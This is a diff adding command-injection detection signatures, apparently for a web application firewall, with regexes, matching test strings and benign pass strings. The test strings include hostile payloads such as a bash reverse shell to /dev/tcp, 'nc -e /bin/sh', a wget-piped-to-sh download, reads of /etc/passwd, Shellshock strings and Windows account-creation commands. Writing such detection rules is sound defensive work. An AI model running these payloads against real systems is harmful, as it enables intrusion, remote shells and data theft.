@@ -1,0 +1,231 @@
+# Command execution / OS command injection signatures (ids 300003000-300003999).
+
+id: 300003001
+name: OS command injection: command after a shell separator
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: ;
+literal: |
+literal: &
+literal: `
+literal: $(
+literal: \n
+literal: \r
+regex: (?:[;|`\n\r]|\\n|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:whoami|uname|ifconfig|ipconfig|netstat|wget|curl|nc|ncat|netcat|socat|telnet|tftp|bash|sh|zsh|ksh|csh|tcsh|dash|busybox|python[23]?|perl|ruby|php|nslookup|ping|traceroute|chmod|chown|chgrp|rm|mkdir|rmdir|pkill|killall|crontab|useradd|usermod|sudo|nohup|xterm|nmap|base64|xxd|grep|egrep|awk|gawk|sed|gzip|unzip|openssl|mkfifo|mknod|sysctl|systemctl|lsof|getent|xargs|printenv|powershell|pwsh|certutil|bitsadmin|systeminfo|tasklist|taskkill|wmic|schtasks|cmd|cmd\.exe|whoami\.exe|ifconfig|uptime|finger|shutdown|reboot|halt)(?:\s*$|[\s;|&`)'"<>]|\$\{?ifs|\$\(|\{)
+test: | whoami
+test: `uname -a`
+test: $(ping -c 3 127.0.0.1)
+test: &&wget http://x.example/a
+pass: Tom & Jerry; two cats
+pass: a heroine; more than that
+
+id: 300003008
+name: OS command injection: common command with arguments after a shell separator
+type: OS Command Injection
+accuracy: medium
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: ;
+literal: |
+literal: &
+literal: `
+literal: $(
+literal: \n
+literal: \r
+regex: (?:[;|`\n\r]|\\n|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:cat|tac|nl|more|less|head|tail|ls|dir|id|pwd|env|ps|echo|printf|sleep|touch|mv|cp|kill|su|passwd|find|sort|tr|cut|tar|dd|strings|file|stat|ln|which|whereis|type|set|export|eval|exec|timeout|time|expr|net|reg|ver|vol|sc|hostname|w|who|last|users|groups|node|od|alias|history|zip|scp|ssh|ftp|lua)(?:\s*$|\s*[`)\\]|\s+[-/\\.$~'"<>{(`*%0-9]|\s+\w+(?:\s*(?:[;|&`\\]|$)|\$|\s+[-/]|\s*[<>])|\$\{?ifs|\$\(|\{|<|>)
+test: ; cat /etc/passwd
+test: | id
+test: `id`
+test: $(sleep 5)
+test: ;echo 123
+test: |ls -la
+pass: mammal;cat;ears
+pass: a heroine; more than that
+
+id: 300003002
+name: OS command injection: Unix shell paths and devices
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: /bin/
+literal: /dev/tcp
+literal: /dev/udp
+literal: /dev/null
+literal: /usr/bin
+literal: /sbin/
+regex: /(?:usr/(?:local/)?)?s?bin/(?:ba|z|k|c|tc|da)?sh\b|/(?:usr/(?:local/)?)?s?bin/(?:cat|id|ls|nc|ncat|netcat|wget|curl|python\d?|perl|ruby|php|busybox|echo|uname|whoami|env|sleep|ping|nslookup|chmod|rm|sh)\b|/dev/(?:tcp|udp)/|[\d>&]\s*/dev/null|>\s*&\s*/dev/
+test: /bin/sh -c id
+test: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+pass: /binary/files/report.pdf
+
+id: 300003003
+name: OS command injection: shell obfuscation (IFS, brace expansion, variable slicing)
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: ifs
+literal: ${
+literal: $@
+literal: $'
+literal: $(
+literal: {cat
+literal: {ls
+literal: {id
+literal: {echo
+literal: {wget
+literal: {curl
+literal: {nc
+literal: {bash
+literal: {sh
+literal: {ping
+literal: {rm
+literal: {whoami
+literal: {uname
+regex: \$\{?ifs\b|\$\{[a-z_]*:\s*-?\d+\s*:\s*\d+\s*\}|\$\{(?:path|home|shell|pwd|user|hostname)\b|\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|rm|whoami|uname),[^}]+\}|\w\$@\w|\$'\\x[0-9a-f]{2}|\$\(\(\s*\d+\s*[-+*/%^]\s*\d+\s*\)\)|\$\(\s*[a-z_][\w.-]*(?:\s|\))|\$\(\s*printf\b|[a-z]\$\{?[0-9#?*@!]\}?[a-z]
+test: cat${IFS}/etc/passwd
+test: {cat,/etc/passwd}
+test: w$@hoami
+test: echo X$((50+41))$(echo X)
+pass: price is ${total}
+
+id: 300003004
+name: OS command injection: reverse shell and download-execute
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: nc
+literal: bash
+literal: wget
+literal: curl
+literal: mkfifo
+literal: socat
+literal: python
+literal: perl
+literal: php
+literal: ruby
+literal: telnet
+literal: chmod
+literal: rm
+literal: tftp
+literal: busybox
+regex: \b(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-[a-z]*[elvnpcu][a-z]*\s+|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+\d+)|\bbash\s+-[ic]\b|\b(?:wget|curl)\s+(?:-[\w-]+\s+\S*\s*)*(?:https?|ftp)://\S+\s*(?:\||;|&|-o|-O|>)|\b(?:wget|curl|fetch|tftp)\b[^|;&]{0,200}\|\s*(?:ba|z)?sh\b|\bmkfifo\s+/|\bsocat\s+(?:tcp|exec|-)|\b(?:python\d?|perl|ruby|php)\s+-[a-z]*[ecr]\s*['"]|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+[rwxs]+)\s+\S|\brm\s+-[rf]{1,2}\s|\bbusybox\s+\w|\btelnet\s+\S+\s+\d+\s*\|
+test: nc -e /bin/sh 10.0.0.1 4444
+test: wget http://evil.example/x.sh | sh
+test: python -c 'import os'
+test: rm -rf /tmp/x
+pass: the nc state park
+
+id: 300003005
+name: Command execution: Windows shell commands
+type: Command Execution
+accuracy: high
+risk: high
+systems: Microsoft Windows
+targets: @values, header, url, param-name
+literal: cmd
+literal: powershell
+literal: pwsh
+literal: net
+literal: ipconfig
+literal: systeminfo
+literal: certutil
+literal: bitsadmin
+literal: wmic
+literal: reg
+literal: type
+literal: dir
+literal: rundll32
+literal: regsvr32
+literal: mshta
+literal: cscript
+literal: wscript
+literal: whoami
+literal: tasklist
+literal: copy
+literal: del
+literal: invoke-
+literal: iex
+regex: \bcmd(?:\.exe)?\s*/[ckr]\b|\b(?:powershell|pwsh)(?:\.exe)?\s+-|\bnet(?:1)?\s+(?:user|localgroup|group|share|view|use|start|stop|session)\b|\bipconfig(?:\.exe)?(?:\s*/all|\s*$|\s*[;&|])|\bsysteminfo\b|\bcertutil(?:\.exe)?\s+-|\bbitsadmin(?:\.exe)?\s+/|\bwmic(?:\.exe)?\s+\w|\breg(?:\.exe)?\s+(?:query|add|delete|save)\s|\b(?:type|dir|copy|del)\s+(?:[a-z]:|%\w+%|\\\\)|\b(?:rundll32|regsvr32|mshta|cscript|wscript)(?:\.exe)?\s|\bwhoami(?:\.exe)?\s*(?:/\w+|$|[;&|])|\btasklist\b|\binvoke-(?:expression|webrequest|command|mimikatz|shellcode)\b|\biex\s*\(|\bdownloadstring\s*\(|%comspec%|%systemroot%
+test: cmd.exe /c dir
+test: powershell -enc SQBFAFgA
+test: type c:\windows\win.ini
+test: net user admin P@ss /add
+pass: the cmd key on a mac
+
+id: 300003006
+name: Shellshock: function definition in a value
+type: Command Execution
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @all
+literal: ()
+literal: ( )
+regex: \(\s*\)[\s.]*\{[^}]{0,100}\}[\s.]*(?:;|>|\|)
+test: () { :; }; echo vulnerable
+test: ().{.:;.};.wget x
+test: () { _; } >_[$($())] { id; }
+pass: f() returns
+pass: () { :; }just a test
+
+id: 300003007
+name: OS command injection: sensitive command with file argument
+type: OS Command Injection
+accuracy: medium
+risk: high
+systems: Unix/Linux
+targets: @values, header, url
+literal: cat
+literal: tac
+literal: more
+literal: less
+literal: head
+literal: tail
+literal: nl
+literal: ls
+literal: grep
+literal: echo
+literal: uname
+literal: whoami
+literal: ping
+literal: sleep
+literal: nslookup
+literal: curl
+literal: wget
+regex: ^\s*(?:ls|dir|cat|ps|find|grep|echo|ping|wget|curl|nc|uname|whoami|netstat|ifconfig)\s+(?:-[a-z]+\s*)+(?:[/~.]|$)|^\s*(?:cat|tac|more|less|head|tail|nl|strings|od|xxd|base64)\s+(?:-\w+\s+)*(?:/|~|\.\.?/|\$)|\b(?:cat|tac|more|head|tail|nl|ls|grep|find)\s+(?:-[a-z]+\s+)*(?:/etc/|/proc/|/var/|/root|/home/|/tmp/|~/|\.\./|\*)|^\s*(?:uname\s+-[a-z]+|whoami|ifconfig|ipconfig|ls\s+-[a-z]+|ps\s+-[aefux]+)\s*$|\bping\s+-[nc]\s*\d+\s|\bsleep\s+\d+\s*(?:[;&|#`)]|$)|\b(?:nslookup|dig|curl|wget)\s+[\w.-]*\$\(|\becho\s+[^\s;|&]+\s*[>|]\s*\S
+test: cat /etc/passwd
+test: ls -l /tmp
+test: uname -a
+test: ping -n 21 127.0.0.1
+pass: cat lovers unite
+
+id: 300003009
+name: OS command injection: short recon command between separators
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: ;
+literal: |
+literal: `
+literal: &
+literal: \n
+literal: \\n
+literal: $(
+regex: (?:[;|`&\n]|\\n|\$\()\s*(?:id|pwd|ps|env|ls|whoami|uname|ifconfig|ipconfig|hostname|netstat|w)\s*(?:[;|`&\n)]|\\n|$)|(?:^|\\n)\s*(?:id|pwd|ps|env|ls|whoami|uname|ifconfig|hostname)\s*[;|`&\n]
+test: a);id;
+test: |id|
+test: \\nid|
+pass: mammal;cat;ears
+pass: id
